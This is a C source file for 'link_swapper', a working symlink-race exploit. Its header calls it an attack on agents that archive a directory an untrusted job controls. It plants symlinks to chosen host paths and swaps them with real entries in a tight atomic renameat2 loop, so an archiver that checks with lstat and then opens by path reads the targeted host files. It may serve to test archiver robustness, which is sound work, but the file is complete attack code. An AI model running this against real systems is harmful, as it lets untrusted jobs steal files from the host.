/* The link-swap attack on an agent that archives a directory a job controls.
 *
 * Usage: link_swapper DIR SECONDS SPEC...
 * where each SPEC is NAME:SIZE:TARGET (SIZE bytes of 'x' in a regular file NAME)
 * or NAME:dir:TARGET (a directory NAME holding one file). For each SPEC the helper
 * makes NAME and a symbolic link NAME.lnk -> TARGET (a path on the agent's host, which
 * need not exist where the helper runs), then, for SECONDS seconds, swaps every NAME
 * with its NAME.lnk with renameat2(RENAME_EXCHANGE): atomically, so that at every
 * instant one of the two names is the real entry and the other the link. An archiver
 * that checks a name with lstat and then opens it by path reads TARGET whenever a swap
 * lands between the two. Exits 0 after SECONDS, 2 on bad usage, 1 on a failed call.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SPECS 64

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int make_file(const char *name, long size) {
    int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return -1;
    for (long i = 0; i < size; i++) {
        if (write(fd, "x", 1) != 1) return -1;
    }
    return close(fd);
}

int main(int argc, char **argv) {
    if (argc < 4 || argc - 3 > MAX_SPECS) {
        fprintf(stderr, "usage: %s DIR SECONDS NAME:SIZE|dir:TARGET...\n", argv[0]);
        return 2;
    }
    if (chdir(argv[1]) != 0) { perror(argv[1]); return 1; }
    double seconds = atof(argv[2]);
    int n = argc - 3;
    char names[MAX_SPECS][256], links[MAX_SPECS][262];
    for (int i = 0; i < n; i++) {
        char *spec = strdup(argv[i + 3]);
        char *name = strtok(spec, ":");
        char *size = strtok(NULL, ":");
        char *target = strtok(NULL, "");
        if (name == NULL || size == NULL || target == NULL || strlen(name) > 250) {
            fprintf(stderr, "bad spec %s\n", argv[i + 3]);
            return 2;
        }
        snprintf(names[i], sizeof names[i], "%s", name);
        snprintf(links[i], sizeof links[i], "%s.lnk", name);
        if (strcmp(size, "dir") == 0) {
            char inner[300];
            snprintf(inner, sizeof inner, "%s/inner", name);
            if (mkdir(name, 0755) != 0 || make_file(inner, 16) != 0) { perror(name); return 1; }
        } else if (make_file(name, atol(size)) != 0) {
            perror(name);
            return 1;
        }
        if (symlink(target, links[i]) != 0) { perror(links[i]); return 1; }
    }
    fprintf(stderr, "swapping %d names for %g s\n", n, seconds);
    unsigned long swaps = 0;
    double end = now() + seconds;
    while (now() < end) {
        for (int k = 0; k < 256; k++) {
            for (int i = 0; i < n; i++) {
                if (renameat2(AT_FDCWD, names[i], AT_FDCWD, links[i], RENAME_EXCHANGE) != 0) {
                    perror("renameat2");
                    return 1;
                }
                swaps++;
            }
        }
    }
    fprintf(stderr, "%lu swaps\n", swaps);
    return 0;
}
